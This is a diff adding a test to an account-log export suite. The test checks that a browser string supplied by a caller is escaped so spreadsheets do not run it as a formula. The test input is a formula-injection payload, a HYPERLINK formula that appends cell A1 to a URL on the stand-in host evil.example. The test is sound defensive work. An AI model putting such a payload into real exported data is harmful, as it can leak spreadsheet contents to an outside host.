@@ -120,6 +120,19 @@ describe('account log', () => {
     expect(sheet.getRow(2).getCell(2).value).toBe(listed.entries[0]?.username);
   });
 
+  it('exports what a caller chose (its browser string) so that no spreadsheet runs it as a formula', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await t.call('POST', '/c/v0/user/login', { user: 'alog_user_b', password: 'wrong' }, { userAgent: formula, ip: '10.20.9.9' });
+    const file = await t.download(
+      '/c/v0/log/account/export',
+      { event: 'signInFailed', username: 'alog_user_b' },
+      { token: acc.admin?.token },
+    );
+    const sheet = await firstSheetOf(file.bytes);
+    expect(sheet.getRow(1).getCell(7).value).toBe('Browser');
+    expect(sheet.getRow(2).getCell(7).value).toBe(`'${formula}`);
+  });
+
   it('is refused to roles without the log screen', async () => {
     expect((await t.call('POST', '/c/v0/log/account/list', {}, { token: acc.userA?.token })).body.errno).toBe(Errno.noPermission);
   });
